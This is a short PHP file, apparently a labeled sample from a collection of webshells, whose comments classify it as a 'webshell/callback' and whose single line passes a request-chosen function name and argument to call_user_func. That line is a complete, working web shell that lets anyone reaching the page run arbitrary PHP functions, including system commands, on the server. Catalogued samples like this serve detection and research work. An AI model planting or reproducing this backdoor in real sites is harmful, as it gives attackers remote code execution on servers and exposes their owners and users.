<?php
// Family: webshell/callback
// Style: function name and argument from the request
// Trait: call_user_func with a request-chosen function and request argument
call_user_func($_GET['f'], $_GET['a']);
